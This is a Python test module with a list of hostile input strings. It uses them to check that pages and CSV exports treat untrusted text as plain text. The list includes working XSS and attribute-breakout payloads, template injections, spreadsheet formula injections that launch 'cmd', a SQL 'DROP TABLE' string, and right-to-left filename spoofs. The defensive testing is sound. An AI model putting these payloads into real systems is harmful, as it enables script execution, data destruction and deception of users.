"""Texts that try to be more than text, and the checks that a page or a file took them for text.

A participant's label, a page, a persona, a model's reply: whatever somebody else wrote may be any of these.
"""

from __future__ import annotations

import csv
import io
from typing import Any

HOSTILE: dict[str, str] = {
    "script": "<script>window.__hit = 'script'</script>",
    "script_in_capitals": "<SCRIPT SRC=data:text/javascript,window.__hit=1></SCRIPT>",
    "image": "<img src=x onerror=\"window.__hit = 'image'\">",
    "svg": "<svg/onload=window.__hit='svg'>",
    "details": "<details open ontoggle=window.__hit='details'>more",
    "frame": "<iframe srcdoc=\"<script>parent.__hit = 'frame'</script>\"></iframe>",
    "link": "<a href=\"javascript:window.__hit='link'\">click here</a>",
    "address": "javascript:window.__hit='address'",
    "style": "<style>* { display: none !important }</style>",
    "meta": '<meta http-equiv="refresh" content="0; url=about:blank">',
    "double_quoted_attribute": "\" autofocus onfocus=\"window.__hit='double'",
    "single_quoted_attribute": "' autofocus onfocus='window.__hit=1' x='",
    "end_of_script": "</script><script>window.__hit = 'end'</script>",
    "end_of_pre": "</pre></td></tr></table></div></form></textarea></select></title><h1>out</h1>",
    "comment": "<!-- --!> <![CDATA[ ]]> -->",
    "entities": "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp;",
    "template": "{{ 7|add:7 }} {{ session.code }} {{ undefined.thing }}",
    "template_tag": "{% include 'otree/Session.html' %} {% endfor %} {% endblock %}",
    "script_template": "${window.__hit = 'template'} `backticks` \\u003cscript\\u003e",
    "formula": "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
    "formulas": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+9)*cmd",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1\r\nnext;row,here\"quoted\"",
    "sql": "Robert'); DROP TABLE otree_botex_step;--",
    "json": '"}], "next": null, "__proto__": {"x": 1} \\ \\" [',
    "right_to_left": "\u202egnp.exe\u2066 \u200f\u061c hidden\u200b words",
    "controls": "a\u0001b\u0008c\u001bd\u007fe\u0085f\u2028g\u2029h\ufeffi\ufffej",
    "long_word": "W" * 3000 + "\u00a0" * 300,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🇩🇪 Z̸̢̛͎͙̳͇̺̈́͂̌a̶̡͔͇̝͊̈́̋͗l̵̡̟̝͕̈́̍̈́g̵͓͖̥̈́͋̚o̴̧̠͉͐̈́͝ " + "e" + "\u0301" * 200,
}  # fmt: skip
ALL_OF_THEM = "\n".join(HOSTILE.values())
"""For a place that takes a text of several lines."""


def harmless(page: Any) -> None:
    """Asserts that no hostile text got through in the page that a browser shows: no script ran, none of its elements is
    there, and nothing sticks out at the side."""
    assert page.evaluate("window.__hit") is None, "a hostile text ran as a script"
    found = page.evaluate(
        """() => [...document.querySelectorAll('*')].filter(one => one.matches('[onerror], [onload], [onfocus], '
        + '[ontoggle], iframe, [href^="javascript:window"], meta[http-equiv=refresh]')).map(one => one.outerHTML)"""
    )
    assert found == [], "a hostile text became an element"
    width, room = page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")
    assert width <= room, f"the page is {width} pixels wide, in a window of {room}"


def harmless_csv(text: str) -> list[dict[str, str]]:
    """Asserts that no cell of a CSV file would be taken for a formula, and returns its rows."""
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    for row in rows:
        assert None not in row and None not in row.values(), f"a row has more or fewer cells than the header: {row}"
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n") or _is_number(cell), f"a formula: {cell!r}"
    return rows


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
